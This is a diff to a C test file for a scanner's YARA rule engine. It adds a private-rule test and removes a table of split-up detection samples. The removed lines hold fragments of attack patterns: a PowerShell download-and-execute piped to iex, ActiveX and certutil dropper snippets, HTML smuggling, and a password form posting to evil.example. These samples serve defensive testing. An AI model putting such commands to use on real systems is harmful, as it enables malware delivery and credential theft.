@@ -1,6 +1,6 @@
 /* SPDX-License-Identifier: GPL-2.0-only WITH sekimori-exception */
-/* Rule files: what is refused and why, meta, scopes, externals; and our own rules, each with
- * a sample that it must match. */
+/* Rule files: what is refused and why, meta, scopes, externals. Our own rules have their samples
+ * in test/rules/. */
 #include "engine/yara.h"
 #include "kit.h"
 
@@ -60,6 +60,8 @@ static const struct {
 	{ "mail.yar", "rule mail { " META("phishing", "4", "")
 	    "condition: mail_from_domain == \"a.example\" and mail_subject contains \"hello\" }", NULL },
 	{ "same.yar", "rule good { " META("info", "1", "") "condition: false }", NULL },
+	{ "private.yar", "private rule part { strings: $a = \"PARTWORD\" condition: $a }\n"
+	    "rule of_parts { " META("bulk", "1", "") "condition: part }", NULL },
 	{ "pe.yar", "import \"pe\"\nrule with_pe { " META("malware", "1", "") "condition: pe.is_pe }", NULL },
 	{ "syntax.yar", "rule ok { condition: true }\nrule bad {\n condition: $nothing }\n", "syntax.yar:3: " },
 	{ "module.yar", "\nimport \"cuckoo\"\nrule m { condition: true }\n", "module.yar:2: the module \"cuckoo\"" },
@@ -110,7 +112,7 @@ test_scans(struct yara *y)
 	struct pool *pool = pool_new(0);
 	size_t n, hits = 0;
 
-	test_int((int64_t)yara_files(y), 7, "seven files serve");
+	test_int((int64_t)yara_files(y), 8, "eight files serve");
 	test_ok(scan(y, YARA_FILE, "", STR("xxGOODWORDxx"), &h) == RC_OK && strcmp(h.names, "good ") == 0, "scope file");
 	test_ok(h.score == 25 && h.class == CLASS_SPAM && strcmp(h.last, "$a at 2") == 0, "class, score, strings");
 	test_ok(scan(y, YARA_TEXT, "", STR("GOODWORD"), &h) == RC_OK && strcmp(h.names, "only_text ") == 0, "scope text");
@@ -118,6 +120,8 @@ test_scans(struct yara *y)
 	test_ok(scan(y, YARA_FILE, "", STR("THIRDWORD"), &h) == RC_OK && h.score == YARA_SCORE_DEFAULT &&
 	    h.class == CLASS_MALWARE, "a rule of others counts as malware, its own score does not");
 	test_ok(scan(y, YARA_FILE, "x.exe", STR("."), &h) == RC_OK && strcmp(h.names, "name ") == 0, "externals of the part");
+	test_ok(scan(y, YARA_FILE, "", STR("PARTWORD"), &h) == RC_OK && strcmp(h.names, "of_parts ") == 0,
+	    "a private rule is not reported, the rule it is part of is");
 	yara_mail(y, &(struct yara_mail){ .from_domain = STR("a.example"), .subject = STR("say hello") });
 	test_ok(scan(y, YARA_FILE, "", STR("."), &h) == RC_OK && strcmp(h.names, "mail ") == 0, "externals of the mail");
 	yara_mail(y, &(struct yara_mail){ .subject = STR("none") });
@@ -125,8 +129,8 @@ test_scans(struct yara *y)
 	n = yara_stats(y, pool, &stats);
 	for (size_t i = 0; i < n; i++)
 		hits += stats[i].hits;
-	test_int((int64_t)n, 7, "an account for each rule");
-	test_int((int64_t)hits, 5, "hits are counted");
+	test_int((int64_t)n, 8, "an account for each rule, none for private ones");
+	test_int((int64_t)hits, 6, "hits are counted");
 	pool_free(&pool);
 }
 
@@ -156,70 +160,9 @@ test_files(void)
 	buf_clear(&errors);
 }
 
-/* Samples in pieces, so that no scanner takes this file for what it is about. */
-static const struct {
-	const char *rule;
-	enum yara_scope scope;
-	const char *name;
-	const char *piece[4];
-} samples[] = {
-	{ "sekimori_test_string", YARA_FILE, "a.txt", { "SEKIMORI-STANDARD-", "YARA-TEST-STRING*J9T2-", "KEEPER-OF-THE-GATE" } },
-	{ "double_extension", YARA_FILE, "invoice.pdf.exe", { "x" } },
-	{ "long_gap_in_name", YARA_FILE, "invoice.pdf                 .exe", { "x" } },
-	{ "html_smuggling", YARA_HTML, "a.html", { "<script>var b=new ", "Blob([ato", "b(x)]);",
-	    "URL.createObject" "URL(b)</script>" } },
-	{ "html_password_form", YARA_FILE, "a.html", { "<html><form action=\"https://evil.example/x\">",
-	    "<input type=\"pass", "word\" name=p></form>" } },
-	{ "powershell_download", YARA_FILE, "a.ps1", { "power",
-	    "shell -c \"(New-Object Net.WebClient).Download", "String('x') |", " iex\"" } },
-	{ "script_dropper", YARA_FILE, "a.js", { "new Active",
-	    "XObject('MSXML2.XML", "HTTP'); new ActiveXObject('WScript", ".Shell')" } },
-	{ "batch_dropper", YARA_FILE, "a.bat", { "@echo ", "off\r\ncert", "util -url", "cache -f http://x y" } },
-	{ "hta_application", YARA_FILE, "a.hta", { "<HTA:APPLI", "CATION id=a>" } },
-	{ "url_file_to_program", YARA_FILE, "a.url", { "[Internet", "Shortcut]\r\nURL=file://", "evil.example/a\r\n" } },
-	{ "rtf_equation_exploit", YARA_FILE, "a.rtf", { "{\\rtf1{\\object\\obj", "data Equat", "ion.3}}" } },
-	{ "pdf_launch", YARA_FILE, "a.pdf", { "%PDF-1.4\n/OpenAct", "ion << /S /Lau", "nch /Win >>" } },
-	{ "pdf_embedded_program", YARA_FILE, "a.pdf", { "%PDF-1.4\n/Embedded", "File /F (a.e", "xe)" } },
-	{ "mht_in_pdf", YARA_FILE, "a.doc", { "%PDF-1.4\nMIME-Ver", "sion: 1.0\nContent-Type: multipart/related\n",
-	    "Content-Loc", "ation: x" } },
-	{ "office_dde", YARA_FILE, "a.xml", { "DDEAU", "TO \"c:\\\\cm", "d.exe\"" } },
-	{ "ooxml_external_template", YARA_FILE, "a.rels", { "relationships/attached", "Template\" Target=\"https://x/y\" Target",
-	    "Mode=\"Exter", "nal\"" } },
-	{ "archive_password_in_the_letter", YARA_TEXT, "", { "The zip pass", "word is 1234" } },
-};
-
-static void
-test_samples(void)
-{
-	struct buf errors;
-	struct yara *y;
-
-	buf_init(&errors, 10000);
-	y = open_folder("rules/yara", &errors);
-	if (!test_ok(y && errors.n == 0, "our own rules compile"))
-		printf("#   %s\n", buf_cstr(&errors));
-	for (size_t i = 0; y && i < sizeof(samples) / sizeof(samples[0]); i++) {
-		char text[2000], name[100];
-		struct heard h;
-
-		snprintf(text, sizeof(text), "%s%s%s%s", samples[i].piece[0], samples[i].piece[1] ? samples[i].piece[1] : "",
-		    samples[i].piece[2] ? samples[i].piece[2] : "", samples[i].piece[3] ? samples[i].piece[3] : "");
-		snprintf(name, sizeof(name), "rule %s", samples[i].rule);
-		if (!test_ok(scan(y, samples[i].scope, samples[i].name, str_of(text), &h) == RC_OK &&
-		    strstr(h.names, samples[i].rule), name))
-			printf("#   got %s\n", h.names);
-		test_ok(scan(y, samples[i].scope, "letter.txt", STR("Dear all, see you on Monday."), &h) == RC_OK &&
-		    !h.names[0], "and not a harmless letter");
-	}
-	if (y)
-		yara_close(&y);
-	buf_clear(&errors);
-}
-
 int
 main(void)
 {
 	test_files();
-	test_samples();
 	return test_done();
 }
